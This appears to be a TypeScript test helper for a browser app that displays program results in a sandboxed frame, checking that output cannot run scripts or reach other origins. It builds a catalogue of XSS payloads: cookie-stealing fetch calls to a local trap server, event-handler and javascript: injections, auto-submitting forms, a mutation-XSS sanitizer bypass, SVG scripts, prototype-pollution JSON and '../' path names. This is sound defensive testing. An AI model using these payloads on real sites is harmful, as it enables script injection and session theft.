import { once } from 'node:events'
import { createServer } from 'node:net'
import type { Page } from 'playwright-core'
import { onTestFinished } from 'vitest'

/** A server of another origin. It records each connection: to connect is enough to tell a secret. */
export class Trap {
  /** The first line of each connection; empty for a connection without a request. */
  readonly caught: string[] = []
  readonly #server = createServer((socket) => {
    const at = this.caught.push('') - 1
    socket.on('error', () => {})
    socket.once('data', (data) => {
      this.caught[at] = String(data).split('\r\n')[0] ?? ''
      socket.end('HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: 0\r\n\r\n')
    })
  })

  static async ofTest(): Promise<Trap> {
    const trap = new Trap()
    trap.#server.listen(0, '127.0.0.1')
    await once(trap.#server, 'listening')
    onTestFinished(() => void trap.#server.close())
    return trap
  }

  /** The requests, without connections that a browser opens in advance, for example under a pointer. */
  get requests(): string[] {
    return this.caught.filter((line) => line !== '')
  }

  get url(): string {
    const address = this.#server.address()
    if (typeof address !== 'object' || !address) throw new Error('the trap does not listen')
    return `http://127.0.0.1:${address.port}`
  }
}

/** A script that reports if it runs: in the page, or in a frame whose page it reaches. */
const scriptTo = (url: string) =>
  `try{window.pwned=1;parent.pwned=1;parent.document.title='pwned'}catch{};` +
  `fetch('${url}/script?'+(()=>{try{return document.cookie}catch{return 0}})());` +
  `fetch('/run',{method:'POST'});new Image().src='${url}/image'`

/** Returns HTML that tries to run scripts and to load from another origin. */
export function loadingHtml(url: string): string {
  const script = scriptTo(url)
  const attribute = script.replaceAll('"', '&quot;')
  const parts = [
    `<script>${script}</script>`,
    `<link rel=stylesheet href=${url}/css>`,
    `<link rel=preconnect href=${url}><link rel=preload as=image href=${url}/preload>`,
    `<link rel=prefetch href=${url}/prefetch><link rel=icon href=${url}/icon>`,
    `<link rel=modulepreload href=${url}/module>`,
    `<div><template shadowrootmode=open><link rel=preconnect href=${url}></template></div>`,
    `<style>@import '${url}/import'; @font-face{font-family:f;src:url(${url}/font)}
      body{background:url(${url}/background);font-family:f} li{list-style-image:url(${url}/list)}</style>`,
    `<img src=${url}/img srcset="${url}/srcset 2x" onerror="${attribute}"><ul><li>a</ul>`,
    `<picture><source srcset=${url}/source><img src=${url}/picture></picture>`,
    `<video src=${url}/video poster=${url}/poster autoplay></video><audio src=${url}/audio></audio>`,
    `<input type=image src=${url}/input><table background=${url}/table><tr><td>a</table>`,
    `<svg onload="${attribute}"><image href=${url}/svg width=9 height=9 /><use href=${url}/use#a />
      <script>${script}</script></svg>`,
    `<object data=${url}/object></object><embed src=${url}/embed>`,
    `<iframe src=${url}/iframe></iframe><iframe srcdoc="<script>${attribute}</script>"></iframe>`,
    `<iframe src="javascript:${attribute}"></iframe>`,
  ]
  return parts.join('\n')
}

/** Returns HTML that tries to navigate: by itself, and by a click. */
export function leavingHtml(url: string): string {
  const attribute = scriptTo(url).replaceAll('"', '&quot;')
  const parts = [
    `<meta http-equiv=refresh content="0;url=${url}/refresh"><base href=${url}/>`,
    `<form action=${url}/form><button id=submit autofocus onfocus="this.click()">a</button></form>`,
    `<a id=own href=${url}/own ping=${url}/ping>a</a> <a id=top href=${url}/top target=_top>a</a>`,
    `<a id=blank href=${url}/blank target=_blank>a</a> <a id=save href=${url}/save download>a</a>`,
    `<a id=run href="javascript:${attribute}">a</a>`,
  ]
  return parts.join('\n')
}

/** Returns HTML that tries everything. */
export function attackHtml(url: string): string {
  // Written and parsed again, this has a link.
  const hidden = `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;link rel=preconnect href=${url}&gt;">`
  return [leavingHtml(url), loadingHtml(url), hidden].join('\n')
}

/** Returns an SVG document with the same aims. */
function attackSvg(url: string): string {
  return `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99"
    height="99" onload="${scriptTo(url).replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">
    <script>//<![CDATA[\n${scriptTo(url)}\n//]]></script><image href="${url}/svg-image" width="9" height="9"/>
    <style>@import '${url}/svg-import'; rect{fill:url(${url}/svg-fill#a)}</style>
    <foreignObject width="99" height="99"><iframe xmlns="http://www.w3.org/1999/xhtml"
    src="${url}/svg-frame"/></foreignObject><rect width="9" height="9"/></svg>`
}

/** Returns a program that shows the attacks in every way that a result can have. */
export function attackProgram(url: string): string {
  const [html, svg] = [JSON.stringify(attackHtml(url)), JSON.stringify(attackSvg(url))]
  const image = JSON.stringify(`<img src=${url}/text onerror="${scriptTo(url)}">`)
  return `import sys
html, svg, image = ${html}, ${svg}, ${image}
print(image, flush=True)
print(image, file=sys.stderr, flush=True)
display({'text/html': html}, raw=True)
display({'image/svg+xml': svg}, raw=True)
display({'text/markdown': image}, raw=True)
display({'text/latex': image}, raw=True)
display({'application/json': {'__proto__': {'a': 1}, image: image, 'filesOfRun': 1}}, raw=True)
display({'application/json': {'filesOfRun': [None, {'path': image, 'content': '!'}, {'path': '../' + image, 'content': ''}]}}, raw=True)
display({'image/png': 'x" onerror="' + image, 'text/plain': image}, raw=True)
raise type(image, (Exception,), {})(image)`
}

/** The clicks of a user that is tricked. */
const TRAPS = ['own', 'top', 'blank', 'save', 'run', 'submit']

/** Clicks on everything that the HTML offers in the frame of a result. The HTML was cleaned. */
export async function clickAll(page: Page): Promise<void> {
  const frame = page.locator('#output iframe').contentFrame()
  for (const id of TRAPS) await frame.locator(`#${id}`).click()
}

/**
 * Shows HTML as it is in frames like the one of a result, and clicks in each of them on one link: the
 * frame itself must stop what the cleaning could miss.
 */
export async function clickRaw(page: Page, html: string): Promise<void> {
  for (const id of TRAPS) {
    await page.locator('#output iframe').evaluate(showRaw, html)
    const frame = page.locator('#raw').contentFrame()
    await frame.locator(`#${id}`).click()
  }
}

/** The parts of the page that a test uses. */
interface FrameElement {
  id: string
  srcdoc: string
  cloneNode(): FrameElement
}
declare const document: {
  querySelector(selector: string): { remove(): void } | null
  body: { append(element: FrameElement): void }
}

function showRaw(frame: FrameElement, html: string): void {
  document.querySelector('#raw')?.remove()
  const copy = frame.cloneNode()
  copy.id = 'raw'
  copy.srcdoc = frame.srcdoc.split('<html')[0] + html
  document.body.append(copy)
}
